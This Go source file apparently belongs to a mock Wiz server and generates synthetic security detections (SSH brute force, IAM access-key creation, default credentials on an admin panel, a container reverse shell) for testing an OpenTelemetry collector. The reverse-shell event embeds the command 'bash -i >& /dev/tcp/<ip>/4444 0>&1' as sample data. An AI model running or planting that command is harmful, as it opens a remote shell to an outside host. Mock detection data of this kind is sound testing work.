// Copyright The otelcol-wiz Authors
// SPDX-License-Identifier: Apache-2.0

package mockwiz

import (
	"fmt"
	"time"
)

// Detections' times carry seven fractional digits (2026-07-01T15:12:18.1559021Z),
// their triggering events' milliseconds.
const (
	detectionTimeUnit   = 100 * time.Nanosecond
	detectionTimeLayout = "2006-01-02T15:04:05.0000000Z"
	eventTimeLayout     = "2006-01-02T15:04:05.000Z"
)

func formatDetectionTime(t time.Time) string { return t.UTC().Format(detectionTimeLayout) }

// A detection keeps at most this many triggering events; totalCount counts
// them all.
const maxTriggeringEvents = 10

var (
	mitreCredentialAccess = securityCategory{"wct-id-822", "Credential Access", "wf-id-34", "MITRE ATT&CK Matrix"}
	mitreExecution        = securityCategory{"wct-id-815", "Execution", "wf-id-34", "MITRE ATT&CK Matrix"}
	mitrePersistence      = securityCategory{"wct-id-816", "Persistence", "wf-id-34", "MITRE ATT&CK Matrix"}
	mitreInitialAccess    = securityCategory{"wct-id-814", "Initial Access", "wf-id-34", "MITRE ATT&CK Matrix"}
	// Wiz also maps rules onto frameworks of its own, which are not MITRE.
	wizInitialAccess = securityCategory{"wct-id-1854", "Initial Access", "wf-id-83", "Wiz for Risk Assessment"}
	wizExecution     = securityCategory{"wct-id-1857", "Execution", "wf-id-83", "Wiz for Risk Assessment"}
)

// detectionScenario is one kind of detection: where it comes from, the rule
// it matched, what it is about and who did it.
type detectionScenario struct {
	origin, provider string
	severities       []string
	rule             map[string]any
	description      string
	// resources makes the detection's resources in account, the primary
	// one first.
	resources func(g *generator, account map[string]any) []any
	// actor makes the primary actor; nil, the detection has none.
	actor func(g *generator, account map[string]any) map[string]any
	// event makes one triggering event about the resources by the actor
	// (nil when there is none) from ip ("" when Wiz saw none).
	event func(g *generator, at time.Time, resources []any, actor map[string]any, ip string) map[string]any
	// attacked: the actor's IP address comes from outside, so events carry
	// it with its reputation.
	attacked bool
}

var detectionScenarios = []detectionScenario{
	{
		origin: "AWS_GUARD_DUTY", provider: "AWS", severities: []string{"LOW", "MEDIUM", "HIGH"}, attacked: true,
		rule: cloudEventRule("f0568339-eb51-486b-bac1-7a835689f051", "UnauthorizedAccess:EC2/SSHBruteForce", "GUARD_DUTY", "AWS_GUARD_DUTY", true,
			securitySubCategory("wsct-id-3522", "T1110", "Brute Force", mitreCredentialAccess),
			securitySubCategory("wsct-id-3518", "T1110.001", "Brute Force: Password Guessing", mitreCredentialAccess),
			securitySubCategory("wsct-id-10678", "", "Credentials guessing", wizInitialAccess)),
		description: "An EC2 instance has been involved in SSH brute force attacks. This rule's final severity is assigned dynamically according to the severity assigned by GuardDuty.",
		resources:   func(g *generator, account map[string]any) []any { return []any{g.detectionVM(account)} },
		actor:       (*generator).networkActor,
		event:       (*generator).guardDutyEvent,
	},
	{
		origin: "WIZ_SENSOR", provider: "AWS", severities: []string{"HIGH", "CRITICAL"},
		rule: cloudEventRule("46fd0cdc-252e-5e69-be6e-66e4851d7ae4", "Reverse shell executed in a container", "WIZ_SENSOR", "WIZ_SENSOR", true,
			securitySubCategory("wsct-id-3461", "T1059.004", "Command and Scripting Interpreter: Unix Shell", mitreExecution),
			securitySubCategory("wsct-id-10701", "", "Malicious code execution", wizExecution)),
		description: "A shell in a container redirected its input and output to a network socket.",
		resources:   func(g *generator, account map[string]any) []any { return []any{g.detectionContainer(account)} },
		// Runtime detections often name no actor: Wiz sends an UNKNOWN one.
		actor: func(*generator, map[string]any) map[string]any { return unknownActor() },
		event: (*generator).sensorProcessEvent,
	},
	{
		origin: "WIZ_SENSOR", provider: "GCP", severities: []string{"INFORMATIONAL", "LOW", "MEDIUM"}, attacked: true,
		rule: cloudEventRule("a3a8322e-4d2c-40b1-943f-db6dd6f81d02", "Suspected SSH brute-force attempts originating from a publicly accessible IP address", "WIZ_SENSOR", "WIZ_SENSOR", true,
			securitySubCategory("wsct-id-3522", "T1110", "Brute Force", mitreCredentialAccess)),
		description: "The program **/usr/sbin/sshd** accepted repeated incoming connections from a public address.",
		resources:   func(g *generator, account map[string]any) []any { return []any{g.detectionVM(account)} },
		actor:       func(*generator, map[string]any) map[string]any { return unknownActor() },
		event:       (*generator).sensorAcceptEvent,
	},
	{
		origin: "AWS_CLOUDTRAIL", provider: "AWS", severities: []string{"MEDIUM", "HIGH"},
		rule: cloudEventRule("0c5e2d84-7b1a-4f3e-9a6c-5d8b2e4f1a37", "Access key created for another IAM user", "AWS_CLOUDTRAIL", "AWS_CLOUDTRAIL", false,
			securitySubCategory("wsct-id-3390", "T1098.001", "Account Manipulation: Additional Cloud Credentials", mitrePersistence)),
		description: "An IAM principal created an access key for another IAM user.",
		resources: func(g *generator, account map[string]any) []any {
			name := pick(g, []string{"legacy-ci", "backup-operator", "svc-reporting"})
			return []any{detectionResource(g, account, "USER_ACCOUNT", "user", name, fmt.Sprintf("arn:aws:iam::%s:user/%s", account["externalId"], name), "")}
		},
		actor: (*generator).principalActor,
		event: (*generator).cloudTrailEvent,
	},
	{
		origin: "WIZ_ATTACK_SURFACE_SCANNING", provider: "Azure", severities: []string{"HIGH", "CRITICAL"},
		rule: cloudEventRule("8b7d4c2e-5f1a-4e9b-a3d6-7c0e2f4b9a15", "Exposed administration panel accepts default credentials", "WIZ_ATTACK_SURFACE_SCANNING", "WIZ_ATTACK_SURFACE_SCANNING", true,
			securitySubCategory("wsct-id-3301", "T1190", "Exploit Public-Facing Application", mitreInitialAccess)),
		description: "Wiz's external scanner signed in to an administration panel with a vendor's default credentials.",
		resources: func(g *generator, account map[string]any) []any {
			host := pick(g, []string{"admin", "grafana", "jenkins"}) + "." + g.alnum(6) + ".example.com"
			region := g.region("Azure")
			return []any{
				detectionResource(g, account, "ENDPOINT", "endpoint", host+":8443", "https://"+host+":8443", region),
				detectionResource(g, account, "ATTACK_SURFACE_FINDING", "defaultCredentials", "Default credentials accepted on "+host, g.uuid(), region),
			}
		},
		// An external scan has no actor at all.
		event: (*generator).attackSurfaceEvent,
	},
}

// cloudEventRule is a detection rule with its security sub-categories.
func cloudEventRule(id, name, sourceType, origin string, builtin bool, subCategories ...any) map[string]any {
	return map[string]any{
		"id": id, "name": name, "description": name + ".", "sourceType": sourceType, "type": "DETECTION",
		"builtin": builtin, "origins": []any{origin}, "securitySubCategories": subCategories, "risks": nil,
	}
}

func (g *generator) detection(start, end time.Time, projects []map[string]any) map[string]any {
	sc := pick(g, detectionScenarios)
	created := g.timeInUnits(start, end, detectionTimeUnit)
	// Detections change after they are created: their events go on.
	updated := created
	if g.chance(0.4) {
		updated = g.timeInUnits(created, end, detectionTimeUnit)
	}
	account := g.cloudAccount(sc.provider)
	account["linkedProjects"] = g.projectsFor(projects)
	resources := sc.resources(g, account)
	// Untyped nils: a nil map would be served as an object.
	var actor map[string]any
	var primaryActor, actors any
	if sc.actor != nil {
		actor = sc.actor(g, account)
		primaryActor = actor
		if actor["type"] != "UNKNOWN" {
			actors = []any{actor}
		}
	}
	ip := ""
	if sc.attacked {
		ip = g.ip()
	}
	// The events led to the detection: the last of them came before it.
	var events []any
	at := created.Add(-time.Duration(1+g.rng.IntN(600)) * time.Second)
	for range 1 + g.rng.IntN(3) {
		events = append(events, sc.event(g, at, resources, actor, ip))
		at = at.Add(-time.Duration(1+g.rng.IntN(60)) * time.Second)
	}
	total := len(events)
	if g.chance(0.2) {
		total += g.rng.IntN(40)
	}
	d := map[string]any{
		"id":                 g.uuid(),
		"type":               "MATCH_ONLY",
		"origins":            []any{sc.origin},
		"severity":           pick(g, sc.severities),
		"description":        sc.description,
		"createdAt":          formatDetectionTime(created),
		"updatedAt":          formatDetectionTime(updated),
		"startedAt":          events[len(events)-1].(map[string]any)["timestamp"],
		"endedAt":            events[0].(map[string]any)["timestamp"],
		"issue":              nil,
		"ruleMatch":          map[string]any{"rule": deepCopy(sc.rule)},
		"actors":             actors,
		"primaryActor":       primaryActor,
		"resources":          resources,
		"primaryResource":    deepCopy(resources[0]),
		"cloudAccounts":      []any{account},
		"cloudOrganizations": nil,
		"triggeringEvents":   map[string]any{"nodes": events, "totalCount": total, "totalCountV2": total},
	}
	if sc.provider == "AWS" && g.chance(0.3) {
		d["cloudOrganizations"] = []any{map[string]any{"id": g.uuid(), "name": "acme-org", "externalId": "o-" + g.alnum(10), "cloudProvider": "AWS"}}
	}
	if g.chance(0.5) {
		d["type"] = "GENERATED_THREAT"
		d["issue"] = g.threat(account)
	}
	return d
}

// threat is the issue a GENERATED_THREAT detection produced or joined.
func (g *generator) threat(account map[string]any) map[string]any {
	id := g.uuid()
	t := map[string]any{
		"id": id, "url": "https://app.wiz.io/threats#~(issue~'" + id + ")", "dueAt": nil,
		"resolutionReason": nil, "projects": deepCopy(account["linkedProjects"]), "notes": nil,
	}
	if g.chance(0.2) {
		t["resolutionReason"] = pick(g, []string{"MALICIOUS_THREAT", "NOT_MALICIOUS_THREAT", "SECURITY_TEST_THREAT"})
		t["notes"] = []any{map[string]any{"text": "Reviewed by the SOC."}}
	}
	return t
}

// detectionResource is a resource as detections carry it; region "" is a
// global resource (null).
func detectionResource(g *generator, account map[string]any, typ, nativeType, name, providerID, region string) map[string]any {
	return map[string]any{
		"id": g.uuid(), "name": name, "externalId": name, "providerUniqueId": nullable(providerID),
		"type": typ, "nativeType": nativeType, "region": nullable(region),
		"cloudAccount":        map[string]any{"id": account["id"], "name": account["name"], "externalId": account["externalId"], "cloudProvider": account["cloudProvider"]},
		"kubernetesNamespace": nil, "kubernetesCluster": nil,
	}
}

func (g *generator) detectionVM(account map[string]any) map[string]any {
	provider := account["cloudProvider"].(string)
	region := g.region(provider)
	name := "i-0" + g.alnum(16)
	providerID := fmt.Sprintf("arn:aws:ec2:%s:%s:instance/%s", region, account["externalId"], name)
	if provider == "GCP" {
		name = pick(g, []string{"web", "bastion", "worker"}) + "-" + g.alnum(4)
		providerID = fmt.Sprintf("//compute.googleapis.com/projects/%s/zones/%s-a/instances/%s", account["externalId"], region, name)
	}
	r := detectionResource(g, account, "VIRTUAL_MACHINE", "virtualMachine", name, providerID, region)
	if g.chance(0.3) {
		// Wiz does not always know the provider's id.
		r["providerUniqueId"] = nil
	}
	return r
}

func (g *generator) detectionContainer(account map[string]any) map[string]any {
	name := pick(g, []string{"payments-api", "ingest", "frontend"})
	r := detectionResource(g, account, "CONTAINER", "ecs#containerinstance", name, g.uuid(), g.region("AWS"))
	r["kubernetesNamespace"] = map[string]any{"id": g.uuid(), "providerUniqueId": g.uuid(), "name": pick(g, []string{"payments", "default", "ingest"})}
	r["kubernetesCluster"] = map[string]any{"id": g.uuid(), "providerUniqueId": "arn:aws:eks:us-east-1:" + account["externalId"].(string) + ":cluster/prod", "name": "prod"}
	return r
}

// unknownActor is what Wiz sends when it knows no actor: an empty id.
func unknownActor() map[string]any {
	return map[string]any{
		"id": "", "name": nil, "externalId": nil, "providerUniqueId": nil, "type": "UNKNOWN", "nativeType": nil,
		"email": nil, "userAgent": nil, "MFA": nil, "federated": false, "friendlyName": nil, "accessKeyId": nil,
		"hasHighPrivileges": false, "hasAdminPrivileges": false, "hasHighKubernetesPrivileges": false,
		"hasAdminKubernetesPrivileges": false, "inactiveInLast90Days": false, "actingAs": nil, "cloudAccount": nil,
	}
}

// networkActor is an outside IP address acting on the account.
func (g *generator) networkActor(map[string]any) map[string]any {
	a := unknownActor()
	ip := g.ip()
	a["id"], a["name"], a["externalId"], a["type"] = g.uuid(), ip, ip, "NETWORK_ADDRESS"
	return a
}

// principalActor is a user, or a role assumed through SSO, of the account.
func (g *generator) principalActor(account map[string]any) map[string]any {
	a := unknownActor()
	ref := map[string]any{"id": account["id"], "name": account["name"], "externalId": account["externalId"], "cloudProvider": account["cloudProvider"]}
	a["id"], a["cloudAccount"], a["federated"] = g.uuid(), ref, false
	a["userAgent"] = pick(g, []string{"aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0", "Boto3/1.34.69 Python/3.12.2", "console.amazonaws.com"})
	a["accessKeyId"] = "AKIA" + g.digits(4) + "EXAMPLE" + g.digits(5)
	a["hasHighPrivileges"], a["hasAdminPrivileges"], a["inactiveInLast90Days"] = true, g.chance(0.5), g.chance(0.1)
	if g.chance(0.5) {
		name := pick(g, []string{"alice.admin", "bob.secops"})
		a["name"], a["type"], a["nativeType"] = name, "USER_ACCOUNT", "user"
		a["externalId"] = "AIDA" + g.digits(17)
		a["providerUniqueId"] = fmt.Sprintf("arn:aws:iam::%s:user/%s", account["externalId"], name)
		a["email"], a["MFA"] = name+"@example.com", g.chance(0.5)
		return a
	}
	role := map[string]any{"id": g.uuid(), "name": "AWSReservedSSO_AdministratorAccess_" + g.alnum(16), "type": "ACCESS_ROLE", "nativeType": "role"}
	a["name"], a["type"], a["nativeType"], a["federated"] = "carol.dev@example.com", "SERVICE_ACCOUNT", "assumedRole", true
	a["friendlyName"], a["actingAs"] = "carol.dev", role
	return a
}

// baseEvent is a triggering event's fields every origin fills the same way.
func (g *generator) baseEvent(at time.Time, name, origin, source, platform string, resources []any, actor map[string]any) map[string]any {
	refs := make([]any, len(resources))
	for i, r := range resources {
		m := r.(map[string]any)
		refs[i] = map[string]any{"id": m["id"], "name": m["name"], "type": m["type"]}
	}
	var actorRef any
	if actor != nil {
		actorRef = map[string]any{"id": actor["id"], "name": actor["name"], "type": actor["type"]}
	}
	return map[string]any{
		"__typename": "CloudEvent", "id": g.uuid(), "name": name, "description": name + ".",
		"origin": origin, "source": source, "category": "Detection", "status": "Success",
		"cloudPlatform": platform, "cloudProviderUrl": nil, "timestamp": at.UTC().Format(eventTimeLayout),
		"actor": actorRef, "actorIP": nil, "actorIPMeta": nil, "resources": refs, "rawAuditLogRecord": map[string]any{},
		"commandLine": nil, "runtimeProgram": map[string]any{"name": nil}, "parentRuntimeProgram": map[string]any{"name": nil},
		"extraDetails": nil,
	}
}

// fromAddress sets where an event came from, with what Wiz knows of the
// address.
func (g *generator) fromAddress(e map[string]any, ip string) {
	e["actorIP"] = ip
	e["actorIPMeta"] = map[string]any{
		"country": pick(g, []string{"Netherlands", "Russia", "United States"}), "autonomousSystemNumber": 12555 + g.rng.IntN(50000),
		"autonomousSystemOrganization": pick(g, []string{"Data-center IMAQLIQ Ltd.", "DigitalOcean, LLC"}),
		"reputation":                   pick(g, []string{"Suspicious", "Malicious", "Benign"}), "reputationDescription": nil,
		"reputationSource": "Recorded Future", "relatedAttackGroupNames": []any{}, "isForeign": true, "customIPRanges": []any{},
	}
}

func (g *generator) guardDutyEvent(at time.Time, resources []any, actor map[string]any, ip string) map[string]any {
	vm := resources[0].(map[string]any)
	e := g.baseEvent(at, "GuardDuty: UnauthorizedAccess:EC2/SSHBruteForce", "AWS_GUARD_DUTY", "guardduty", "AWS", resources, actor)
	e["description"] = ip + " is performing SSH brute force attacks against " + vm["name"].(string) + "."
	e["cloudProviderUrl"] = "https://console.aws.amazon.com/guardduty/home?region=" + vm["region"].(string) + "#/findings"
	g.fromAddress(e, ip)
	return e
}

func (g *generator) sensorProcessEvent(at time.Time, resources []any, actor map[string]any, _ string) map[string]any {
	container := resources[0].(map[string]any)
	e := g.baseEvent(at, "Reverse shell executed", "WIZ_SENSOR", "WizSensorAlert##RuleEngine", "AWS", resources, actor)
	shell := "bash -i >& /dev/tcp/" + g.ip() + "/4444 0>&1"
	e["commandLine"] = shell
	e["runtimeProgram"] = map[string]any{"name": "/usr/bin/bash"}
	e["parentRuntimeProgram"] = map[string]any{"name": "/usr/bin/python3"}
	e["rawAuditLogRecord"] = map[string]any{"common": map[string]any{"containerId": container["id"]}, "alert": map[string]any{"event": map[string]any{"kind": "process_start"}}}
	image := map[string]any{"id": g.uuid(), "externalId": "sha256:" + g.alnum(64)}
	runningIn := map[string]any{"id": container["id"], "externalId": container["externalId"], "name": container["name"], "image": image}
	e["extraDetails"] = map[string]any{
		"__typename": "CloudEventRuntimeDetails",
		"processTree": []any{
			map[string]any{"command": shell, "container": runningIn, "path": "/usr/bin/bash", "hash": g.alnum(40), "size": 1234376,
				"executionTime": at.UTC().Format(eventTimeLayout), "runtimeProgramId": g.uuid(), "userId": "0", "userName": "root"},
			map[string]any{"command": "python3 app.py", "container": runningIn, "path": "/usr/bin/python3", "hash": nil, "size": nil,
				"executionTime": nil, "runtimeProgramId": g.uuid(), "userId": "1000", "userName": nil},
		},
	}
	return e
}

func (g *generator) sensorAcceptEvent(at time.Time, resources []any, actor map[string]any, ip string) map[string]any {
	e := g.baseEvent(at, "Incoming SSH connection", "WIZ_SENSOR", "WizSensorAlert##RuleEngine", "GCP", resources, actor)
	e["description"] = "The program /usr/sbin/sshd accepted an incoming connection from " + ip + " on the local port 22."
	e["commandLine"] = "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"
	e["runtimeProgram"] = map[string]any{"name": "/usr/sbin/sshd"}
	e["parentRuntimeProgram"] = map[string]any{"name": "/usr/lib/systemd/systemd"}
	e["rawAuditLogRecord"] = map[string]any{"alert": map[string]any{"event": map[string]any{"kind": "network_accept"}}}
	g.fromAddress(e, ip)
	return e
}

func (g *generator) cloudTrailEvent(at time.Time, resources []any, actor map[string]any, _ string) map[string]any {
	target := resources[0].(map[string]any)
	e := g.baseEvent(at, "CreateAccessKey", "AWS_CLOUDTRAIL", "iam.amazonaws.com", "AWS", resources, actor)
	ip := g.ip()
	e["description"] = fmt.Sprintf("%v created an access key for %v.", actor["name"], target["name"])
	e["cloudProviderUrl"] = "https://console.aws.amazon.com/cloudtrail/home?region=us-east-1#/events"
	e["rawAuditLogRecord"] = map[string]any{
		"eventName": "CreateAccessKey", "eventSource": "iam.amazonaws.com", "awsRegion": "us-east-1",
		"sourceIPAddress": ip, "userAgent": actor["userAgent"], "requestParameters": map[string]any{"userName": target["name"]},
	}
	// The principal's own address: no reputation lookup.
	e["actorIP"] = ip
	return e
}

func (g *generator) attackSurfaceEvent(at time.Time, resources []any, _ map[string]any, _ string) map[string]any {
	endpoint := resources[0].(map[string]any)
	e := g.baseEvent(at, "Default credentials accepted", "WIZ_ATTACK_SURFACE_SCANNING", "WizAttackSurfaceScanner", "Azure", resources, nil)
	e["rawAuditLogRecord"] = map[string]any{"url": endpoint["providerUniqueId"], "statusCode": 200, "check": "default-credentials"}
	return e
}
